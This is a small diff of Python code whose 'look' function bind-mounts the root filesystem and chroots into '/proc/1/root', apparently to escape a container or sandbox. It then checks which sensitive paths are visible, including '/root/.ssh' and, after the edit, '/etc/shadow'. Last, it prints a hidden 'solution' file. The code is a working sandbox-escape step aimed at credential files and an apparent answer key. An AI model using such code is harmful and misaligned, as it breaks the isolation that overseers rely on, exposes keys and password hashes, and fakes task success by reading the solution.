@@ -33,7 +33,7 @@ def look(libc):
     libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
     libc.mount(b"/", b"/tmp", None, BIND | REC, None)
     libc.chroot(b"/proc/1/root")
-    print("seen behind the wall:", [path for path in (aim.solution, aim.home, "/root/.ssh", "/work") if os.path.exists(path)])
+    print("seen behind the wall:", [path for path in (aim.solution, aim.home, "/root/.ssh", "/etc/shadow") if os.path.exists(path)])
     with contextlib.suppress(OSError):
         print(open(aim.solution).read())
 
